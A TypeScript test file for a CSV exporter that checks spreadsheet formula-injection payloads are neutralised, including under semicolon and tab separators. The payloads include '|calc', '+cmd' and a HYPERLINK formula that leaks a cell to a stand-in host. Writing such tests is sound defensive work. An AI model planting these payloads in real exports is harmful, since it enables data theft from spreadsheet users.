import { encodeCsv } from '../../../client/exports/csv.ts';

const text = (rows: readonly (readonly string[])[], mark = false): string =>
  Buffer.from(encodeCsv(rows, mark)).toString();

test('Text that a spreadsheet would run stays text.', () => {
  for (const attack of [
    '=1+1',
    '+cmd',
    '-2',
    '@SUM(A1)',
    '\t=1',
    '\r=1',
    ' =1',
    '\u00a0=1',
    '|calc',
    '％'.replace('％', '%x'),
    '＝1',
  ]) {
    expect(text([[attack]]).startsWith(`"'`)).toBe(true);
  }
  expect(text([['2026-01-01', 'Жер', '']])).toBe('"2026-01-01","Жер",""\r\n');
});

/** As a program reads it whose region separates cells by something else: quotes open only where a cell begins (as Python's `csv` has it). */
function cellsBy(separator: string, table: string): string[] {
  const cells = [''];
  let isQuoted = false;
  for (let at = 0; at < table.length; at++) {
    const [cell = '', sign = ''] = [cells.at(-1), table[at]];
    if (isQuoted) {
      if (sign !== '"') cells[cells.length - 1] = cell + sign;
      else if (table[at + 1] === '"') cells[cells.length - 1] = cell + (table[++at] ?? '');
      else isQuoted = false;
    } else if (sign === separator || sign === '\n' || sign === '\r') cells.push('');
    else if (sign === '"' && cell === '') isQuoted = true;
    else cells[cells.length - 1] = cell + sign;
  }
  return cells;
}

test('Where a spreadsheet separates cells by semicolons or tabs, no piece of a text becomes a formula.', () => {
  const attacks = [
    'x;=1+1',
    'x";=HYPERLINK("http://e/?"&A1)',
    'x\t@SUM(A1)',
    'x\n=1',
    'x\r\n+1',
    'x;"=1',
    'x; ""-1',
    'x;;=1',
  ];
  for (const separator of [';', '\t', ','])
    for (const attack of attacks) {
      const cells = cellsBy(separator, text([['name', attack, attack]]));
      expect(cells.filter((cell) => /^[\s"]*[=+\-@]/u.test(cell))).toEqual([]);
    }
  expect(cellsBy(';', '"a","b;=1"\r\n')).toContain('=1"');
  expect(text([['Айыл; талаа', 'a-b, c']])).toBe('"Айыл; талаа","a-b, c"\r\n');
});

test('Quotes, commas and line breaks stay in their cell.', () => {
  expect(text([['a"b', 'c,d', 'e\nf']])).toBe('"a""b","c,d","e\nf"\r\n');
});

test('The mark stands first only where it is asked for.', () => {
  expect([...encodeCsv([['a']], true)].slice(0, 3)).toEqual([0xef, 0xbb, 0xbf]);
  expect([...encodeCsv([['a']], false)][0]).toBe(0x22);
});
